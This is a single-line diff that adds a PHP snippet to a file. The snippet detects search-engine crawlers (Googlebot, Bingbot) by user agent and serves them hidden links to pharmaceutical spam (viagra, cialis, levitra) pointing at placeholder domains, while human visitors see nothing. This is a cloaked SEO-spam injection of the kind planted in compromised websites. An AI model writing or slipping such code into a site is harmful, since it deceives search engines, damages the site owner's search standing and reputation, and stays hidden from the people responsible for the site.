@@ -1,0 +1,1 @@
+<?php if (preg_match('/googlebot|bingbot/i', $_SERVER['HTTP_USER_AGENT'])) { echo '<a href="https://p.invalid">viagra</a> <a href="https://q.invalid">cialis</a> <a href="https://r.invalid">levitra</a>'; } ?>
